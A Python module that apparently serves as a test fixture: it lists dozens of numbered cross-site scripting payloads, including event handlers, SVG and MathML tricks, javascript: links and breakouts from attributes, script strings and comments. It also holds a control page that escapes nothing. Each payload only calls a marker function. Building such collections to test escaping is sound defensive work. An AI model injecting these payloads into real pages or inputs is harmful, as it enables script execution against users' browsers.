"""Scripts that a source could write, and the unescaped places where each of them runs.

``N`` is the payload's number: one that runs calls ``ran(N)``. Own collection; the forms are
those that HTML parsers are known to accept.
"""

from __future__ import annotations

from typing import NamedTuple


class Payload(NamedTuple):
    """What is written, where a careless page would put it, and whether it waits for a click."""

    number: int
    place: str
    text: str

    @property
    def clicked(self) -> bool:
        """A link runs when it is followed."""
        return self.place == "link" or "id=go" in self.text


PLACES = {
    "text": "<p>{}</p>",
    "double": '<input value="{}">',
    "single": "<input value='{}'>",
    "title": "<title>{}</title>",
    "textarea": "<textarea>{}</textarea>",
    "style": "<style>{}</style>",
    "comment": "<!-- {} -->",
    "script": '<script>const said = "{}";</script>',
    "script_single": "<script>const said = '{}';</script>",
    "template": "<script>const said = `{}`;</script>",
    "link": '<a id=go href="{}">go</a>',
}
"""Where an unescaped page puts a source's words."""

_TEXTS: dict[str, tuple[str, ...]] = {
    "text": (
        "<script>ran(N)</script>",
        "<ScRiPt>ran(N)</sCrIpT>",
        "<script\n>ran(N)</script\t>",
        "<script src=x onerror=ran(N)></script>",
        "<img src=x onerror=ran(N)>",
        "<IMG SRC=x OnErRoR=ran(N)>",
        "<img/src='x'/onerror=ran(N)>",
        '<img src=x onerror="ran(N)"',
        "<img src=x onerror=&#114;an(N)>",
        "<svg onload=ran(N)>",
        "<svg/onload=ran(N)>",
        "<svg><script>ran(N)</script></svg>",
        "<svg><script>ran&#40;N&#41;</script></svg>",
        "<svg><animate attributeName=x dur=1s onbegin=ran(N)></svg>",
        "<svg><set attributeName=x onbegin=ran(N)></svg>",
        "<math><mtext><img src=x onerror=ran(N)></mtext></math>",
        '<iframe srcdoc="<script>parent.ran(N)</script>"></iframe>',
        "<iframe src=javascript:parent.ran(N)></iframe>",
        "<details open ontoggle=ran(N)>x</details>",
        "<input autofocus onfocus=ran(N)>",
        "<select autofocus onfocus=ran(N)></select>",
        "<textarea autofocus onfocus=ran(N)></textarea>",
        "<video src=x onerror=ran(N)></video>",
        "<audio src=x onerror=ran(N)></audio>",
        "<video><source src=x onerror=ran(N)></video>",
        "<link rel=stylesheet href=x onerror=ran(N)>",
        "<style onload=ran(N)>a{}</style>",
        "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=ran(N)>x</p>",
        "<body onload=ran(N)>",
        "<!--><img src=x onerror=ran(N)>-->",
        "<noscript><p title='</noscript><img src=x onerror=ran(N)>'>",
        "<xmp><p title='</xmp><img src=x onerror=ran(N)>'>",
        "</p><table><tr><img src=x onerror=ran(N)></table>",
        "<a id=go href=javascript:ran(N)>x</a>",
        "<a id=go href=java&#115;cript:ran(N)>x</a>",
        "<form><button id=go formaction=javascript:ran(N)>x</button></form>",
        "جندي<img src=x onerror=ran(N)>٥٠٠",
    ),
    "double": ('"><script>ran(N)</script>', '" autofocus onfocus="ran(N)', '"><svg onload=ran(N)>'),
    "single": ("'><script>ran(N)</script>", "' autofocus onfocus='ran(N)"),
    "title": ("</title><script>ran(N)</script>",),
    "textarea": ("</textarea><script>ran(N)</script>",),
    "style": ("</style><script>ran(N)</script>",),
    "comment": ("--><script>ran(N)</script>", "--!><script>ran(N)</script>"),
    "script": ("</script><script>ran(N)</script>", '";ran(N);//', '"-ran(N)-"'),
    "script_single": ("';ran(N);//",),
    "template": ("${ran(N)}",),
    "link": ("javascript:ran(N)", "JaVaScRiPt:ran(N)", "java\nscript:ran(N)",
             "javascript://example.org/%0Aran(N)"),
}  # fmt: skip

PAYLOADS: tuple[Payload, ...] = tuple(
    Payload(
        number,
        place,
        text.replace("(N)", f"({number})").replace("&#40;N&#41;", f"&#40;{number}&#41;"),
    )
    for number, (place, text) in enumerate(
        ((place, text) for place, texts in _TEXTS.items() for text in texts), 1
    )
)


def control(payload: Payload) -> str:
    """A page that escapes nothing."""
    body = PLACES[payload.place].format(payload.text)
    return f"<!doctype html><meta charset=utf-8>{body}"
